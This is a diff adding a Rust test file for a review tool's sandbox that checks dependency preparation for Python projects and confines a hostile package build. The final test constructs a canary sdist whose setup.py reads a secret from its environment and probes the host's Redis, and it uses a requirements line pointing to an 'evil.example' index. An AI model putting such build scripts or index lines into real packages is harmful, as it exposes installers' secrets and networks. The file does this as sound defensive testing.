@@ -1,0 +1,407 @@
+//! Proofs on projects laid out as real ones are: each declares what its tests need in its
+//! own way (pyproject only, setup.py only, a test extra, a dev requirements file with a
+//! tool no registry serves, tox), and the sandbox prepares it in a preparation container
+//! before the Prover's test runs. And the opposite: a hostile sdist's build runs only in
+//! that container — never on the host, never with the host's secrets.
+
+use proven_change::testing::TestRepo;
+use proven_models::scripted::{Reply, ScriptedServer};
+use proven_store::testing::Backend;
+use serde_json::json;
+
+use crate::agents::{GENERATOR, GUARD, SKEPTIC};
+use crate::common::{Env, json as parse, text};
+
+/// The buggy function, and the code around it: `module` holds `add`, which imports
+/// `dependency` (so a missing dependency fails collection: no proof without it).
+fn project(files: &[(&str, String)], module: &str, dependency: &str) -> (TestRepo, String) {
+    let repo = TestRepo::new();
+    let code = |op: &str| format!("import {dependency}\n\n\ndef add(a, b):\n    return a {op} b\n");
+    for (path, text) in files {
+        repo.write(path, text);
+    }
+    repo.write(module, code("+"));
+    let base = repo.commit("base");
+    repo.write(module, code("-"));
+    repo.commit("change: add subtracts");
+    (repo, base)
+}
+
+/// Every model scripted: the Planner names the bug in `module`, the Prover writes `test`
+/// (importing `import_line`), the Skeptic concedes naming the test, the Fixer answers `fix`.
+fn scripted(server: &ScriptedServer, module: &str, import_line: &str, fix: serde_json::Value) {
+    server.on(
+        Some(GUARD),
+        "",
+        vec![Reply::Json(json!({"User Safety": "safe"}))],
+    );
+    server.on(
+        Some(GENERATOR),
+        "You are the Planner",
+        vec![Reply::Json(json!({"risks": [{"title": "add subtracts",
+            "claim": "add(2, 3) is -1 on the change", "path": module, "symbol": "add",
+            "evidence": "test"}]}))],
+    );
+    server.on(
+        Some(GENERATOR),
+        "You are the Prover",
+        vec![Reply::Json(json!({"test_path": "tests/test_proven_add.py",
+            "test_code": format!("{import_line}\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"),
+            "tests": ["test_add"]}))],
+    );
+    server.on(
+        Some(SKEPTIC),
+        "You are the Skeptic",
+        vec![Reply::Json(
+            json!({"verdict": "conceded", "reason": "it fails on the change",
+            "artifact": "tests/test_proven_add.py"}),
+        )],
+    );
+    server.on(Some(GENERATOR), "You are the Fixer", vec![Reply::Json(fix)]);
+}
+
+fn review(
+    env: &Env,
+    server: &ScriptedServer,
+    repo: &TestRepo,
+    base: &str,
+    extra: &[(&str, &str)],
+) -> std::process::Output {
+    let mut cmd = crate::agents::agents(env, server);
+    for (k, v) in extra {
+        cmd.env(k, v);
+    }
+    cmd.args([
+        "review",
+        "--repo",
+        &repo.path().display().to_string(),
+        "--base",
+        base,
+    ])
+    .args(["--format", "json"])
+    .output()
+    .expect("run proven review")
+}
+
+fn no_fix() -> serde_json::Value {
+    json!({"edits": [], "explanation": "none"})
+}
+
+/// The first finding's first run's preparation notes (what could not be prepared, ...).
+fn environment(doc: &serde_json::Value) -> Vec<String> {
+    doc["findings"][0]["evidence"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .flat_map(|e| e["run"]["environment"].as_array().into_iter().flatten())
+        .filter_map(|l| l.as_str().map(String::from))
+        .collect()
+}
+
+/// Must-show 1 of the issue: a project's dependencies declared only in pyproject (a src
+/// layout), only in setup.py, in a test extra, in a dev requirements file beside a tool no
+/// registry serves, and in tox's deps: the Prover's test runs and proves in each, and what
+/// could not be prepared is named.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn each_way_a_python_project_declares_its_dependencies_is_prepared_and_proves() {
+    let pyproject = |extra: &str| {
+        format!(
+            "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n\
+             [project]\nname = \"calc\"\nversion = \"0.1.0\"\n{extra}"
+        )
+    };
+    // (what, the project's files, the module with the bug, what it imports, the test's import)
+    type Case = (
+        &'static str,
+        Vec<(&'static str, String)>,
+        &'static str,
+        &'static str,
+        &'static str,
+    );
+    let cases: Vec<Case> = vec![
+        (
+            "pyproject [project] dependencies, src layout",
+            vec![
+                ("pyproject.toml", pyproject("dependencies = [\"six==1.16.0\"]\n")),
+                ("src/calc/__init__.py", String::new()),
+            ],
+            "src/calc/ops.py",
+            "six",
+            "from calc.ops import add",
+        ),
+        (
+            "setup.py install_requires",
+            vec![
+                (
+                    "setup.py",
+                    "from setuptools import setup\n\nsetup(name='calc', version='0.1', packages=['calc'],\n      install_requires=['toml==0.10.2'])\n".into(),
+                ),
+                ("calc/__init__.py", String::new()),
+            ],
+            "calc/ops.py",
+            "toml",
+            "from calc.ops import add",
+        ),
+        (
+            "a test extra",
+            vec![
+                (
+                    "pyproject.toml",
+                    pyproject("[project.optional-dependencies]\ntest = [\"attrs==23.2.0\"]\ndocs = [\"proven-no-such-docs-tool==9.9\"]\n"),
+                ),
+                ("src/calc/__init__.py", String::new()),
+            ],
+            "src/calc/ops.py",
+            "attrs",
+            "from calc.ops import add",
+        ),
+        (
+            "a dev requirements file with one tool no registry serves",
+            vec![
+                (
+                    "requirements-dev.txt",
+                    "more-itertools==10.2.0\nproven-no-such-dev-tool-7d1f==9.9.9\n".into(),
+                ),
+            ],
+            "ops.py",
+            "more_itertools",
+            "from ops import add",
+        ),
+        (
+            "tox deps",
+            vec![(
+                "tox.ini",
+                "[tox]\nenvlist = py311\n\n[testenv]\ndeps =\n    idna==3.6\ncommands = pytest {posargs}\n".into(),
+            )],
+            "ops.py",
+            "idna",
+            "from ops import add",
+        ),
+    ];
+    let env = Env::new(Backend::Sqlite).await;
+    for (name, files, module, dependency, import_line) in cases {
+        let (repo, base) = project(&files, module, dependency);
+        let server = ScriptedServer::start().await;
+        scripted(&server, module, import_line, no_fix());
+        let out = review(&env, &server, &repo, &base, &[("PROVEN_FIX_ATTEMPTS", "0")]);
+        let doc = parse(&out);
+        let findings = doc["findings"].as_array().expect("findings");
+        assert_eq!(
+            findings.len(),
+            1,
+            "{name}: the Prover's test runs and proves: {doc:#}\n{}",
+            text(&out).1
+        );
+        assert_eq!(findings[0]["proof_level"], "reproduced", "{name}");
+        if name.starts_with("a dev requirements file") {
+            let lines = environment(&doc);
+            assert!(
+                lines.iter().any(|l| l.contains(
+                    "not prepared: proven-no-such-dev-tool-7d1f==9.9.9 (requirements-dev.txt:2)"
+                )),
+                "{name}: the tool that cannot be had is named: {lines:?}"
+            );
+            assert!(
+                doc["not_seen"]
+                    .to_string()
+                    .contains("proven-no-such-dev-tool-7d1f"),
+                "and in the review: {doc:#}"
+            );
+        }
+    }
+    env.cleanup().await;
+}
+
+/// Must-show 2 of the issue: a project whose own suite needs what only
+/// test_requirements.txt declares gets its fix proved (the Fixer's patch passes the
+/// finding's test and the project's suite, which could not even be collected without it).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_fix_is_proved_where_the_suite_needs_the_test_requirements() {
+    let suite = "import attr\n\nfrom ops import add\n\n\n@attr.s\nclass Pair:\n    a = attr.ib()\n    b = attr.ib()\n\n\ndef test_add_zero():\n    p = Pair(1, 0)\n    assert add(p.a, p.b) == 1\n";
+    let files = vec![
+        ("test_requirements.txt", "attrs==23.2.0\n".to_string()),
+        // The suite as the project documents it: tox, translated to pytest in the sandbox
+        // (the coverage plugin's options dropped, never tox itself with its network).
+        (
+            "tox.ini",
+            "[tox]\nenvlist = py311\n\n[testenv]\ndeps = -rtest_requirements.txt\ncommands = pytest --cov=ops -v {posargs:tests}\n".to_string(),
+        ),
+        ("tests/test_ops.py", suite.to_string()),
+        ("tests/conftest.py", "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))\n".to_string()),
+    ];
+    let (repo, base) = project(&files, "ops.py", "os");
+    let server = ScriptedServer::start().await;
+    scripted(
+        &server,
+        "ops.py",
+        "from ops import add",
+        json!({"edits": [{"path": "ops.py", "old_text": "return a - b", "new_text": "return a + b"}],
+               "explanation": "add adds again"}),
+    );
+    let env = Env::new(Backend::Sqlite).await;
+    let out = review(&env, &server, &repo, &base, &[]);
+    let doc = parse(&out);
+    let f = &doc["findings"][0];
+    assert_eq!(f["proof_level"], "reproduced", "{doc:#}");
+    let patch = f["patch"]
+        .as_object()
+        .unwrap_or_else(|| panic!("the fix is proved: {f:#}"));
+    let suite_run = patch["runs"]
+        .as_array()
+        .and_then(|r| r.last())
+        .expect("the suite's run");
+    assert_eq!(suite_run["outcome"], "passed", "{suite_run:#}");
+    assert!(
+        suite_run["tests"]["passed"]
+            .as_u64()
+            .is_some_and(|n| n >= 2),
+        "the project's own test ran too: {suite_run:#}"
+    );
+    env.cleanup().await;
+}
+
+/// A package index the test serves: one sdist whose build (setup.py) writes a marker file,
+/// reads a secret from its environment, and tries the host's Redis; its package records
+/// what the build saw.
+fn hostile_index(dir: &std::path::Path, marker: &std::path::Path) {
+    let setup = format!(
+        "import os, socket\n\
+         from setuptools import setup\n\
+         open({marker:?}, 'w').write('built here')\n\
+         seen = os.environ.get('PROVEN_TEST_SECRET')\n\
+         try:\n    socket.create_connection(('127.0.0.1', 6379), timeout=2).close()\n    net = 'reached'\n\
+         except OSError as e:\n    net = type(e).__name__\n\
+         os.makedirs('proven_canary', exist_ok=True)\n\
+         open('proven_canary/__init__.py', 'w').write('SEEN = %r\\nNET = %r\\n' % (seen, net))\n\
+         setup(name='proven-canary', version='1.0', packages=['proven_canary'])\n",
+        marker = marker.display().to_string()
+    );
+    let package = dir.join("packages");
+    std::fs::create_dir_all(&package).expect("mkdir");
+    let tarball = package.join("proven-canary-1.0.tar.gz");
+    let file = std::fs::File::create(&tarball).expect("sdist");
+    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::default());
+    let mut tar = tar::Builder::new(gz);
+    for (name, body) in [
+        ("proven-canary-1.0/setup.py", setup.as_str()),
+        (
+            "proven-canary-1.0/PKG-INFO",
+            "Metadata-Version: 2.1\nName: proven-canary\nVersion: 1.0\n",
+        ),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(body.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        tar.append_data(&mut header, name, body.as_bytes())
+            .expect("tar");
+    }
+    tar.into_inner()
+        .and_then(|gz| gz.finish())
+        .expect("sdist written");
+    let simple = dir.join("simple/proven-canary");
+    std::fs::create_dir_all(&simple).expect("mkdir");
+    std::fs::write(
+        simple.join("index.html"),
+        "<html><body><a href=\"../../packages/proven-canary-1.0.tar.gz\">proven-canary-1.0.tar.gz</a></body></html>\n",
+    )
+    .expect("index");
+}
+
+/// Issue 14, must-show 1: a pull request's requirements name an index of its own and
+/// `--no-binary`; both lines are refused by name. The package itself comes from the
+/// operator's index as an sdist, whose build runs in the preparation container only: its
+/// marker never appears on the host, the secret of the reviewing process is never seen,
+/// and the host's Redis is out of reach.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_sdist_build_never_runs_on_the_host_nor_sees_its_secrets() {
+    let index = tempfile::tempdir().expect("index dir");
+    let marker =
+        std::env::temp_dir().join(format!("proven-marker-{}", uuid::Uuid::now_v7().simple()));
+    hostile_index(index.path(), &marker);
+    let server_proc = crate::common::FileServer::start(index.path());
+    let secret = format!("canary-secret-{}", uuid::Uuid::now_v7().simple());
+    let requirements =
+        "--index-url http://evil.example/simple\n--no-binary proven-canary\nproven-canary==1.0\n";
+    let (repo, base) = project(
+        &[("requirements.txt", requirements.into())],
+        "ops.py",
+        "proven_canary",
+    );
+    let server = ScriptedServer::start().await;
+    scripted(
+        &server,
+        "ops.py",
+        "import proven_canary\nfrom ops import add\n\nassert proven_canary.SEEN is None, proven_canary.SEEN",
+        no_fix(),
+    );
+    let env = Env::new(Backend::Sqlite).await;
+    let registry = format!("index.test=127.0.0.1:{}", server_proc.port);
+    let out = review(
+        &env,
+        &server,
+        &repo,
+        &base,
+        &[
+            ("PROVEN_TEST_SECRET", &secret),
+            ("PROVEN_SANDBOX_PIP_INDEX_URL", "http://index.test/simple"),
+            ("PROVEN_SANDBOX_REGISTRIES", &registry),
+            ("PROVEN_FIX_ATTEMPTS", "0"),
+        ],
+    );
+    let (stdout, stderr) = text(&out);
+    let doc = parse(&out);
+    assert!(!marker.exists(), "the sdist's build ran on the host");
+    assert!(
+        !stdout.contains(&secret) && !stderr.contains(&secret),
+        "the secret reached the output"
+    );
+    // The package was built (in the container): the proof ran against it.
+    let findings = doc["findings"].as_array().expect("findings");
+    let trace = text(&env.run(&["trace", doc["review_id"].as_str().expect("id")])).0;
+    assert_eq!(
+        findings.len(),
+        1,
+        "{doc:#}\n{stderr}\n{}",
+        trace
+            .lines()
+            .filter(|l| l.contains("sandbox_run"))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+    let lines = environment(&doc);
+    for refused in ["requirements.txt:1", "requirements.txt:2"] {
+        assert!(
+            lines.iter().any(|l| l.contains(refused)),
+            "{refused} is named as refused: {lines:?}"
+        );
+    }
+    assert!(
+        doc["not_seen"]
+            .to_string()
+            .contains("--index-url http://evil.example/simple")
+    );
+    // Nothing the build wrote anywhere Proven keeps holds the secret either.
+    assert!(!trace.contains(&secret));
+    let cache = std::env::temp_dir().join("proven-sandbox/cache/deps");
+    let mut built = 0;
+    for entry in walkdir::WalkDir::new(&cache).into_iter().flatten() {
+        if entry.file_type().is_file() && entry.path().to_string_lossy().contains("proven_canary") {
+            let body = std::fs::read_to_string(entry.path()).unwrap_or_default();
+            assert!(!body.contains(&secret), "{}", entry.path().display());
+            if entry.path().ends_with("proven_canary/__init__.py") {
+                built += 1;
+                assert!(body.contains("SEEN = None"), "{body}");
+                assert!(
+                    !body.contains("NET = 'reached'"),
+                    "the build reached the host's Redis: {body}"
+                );
+            }
+        }
+    }
+    assert!(
+        built > 0,
+        "the sdist was built, in the preparation container"
+    );
+    env.cleanup().await;
+}
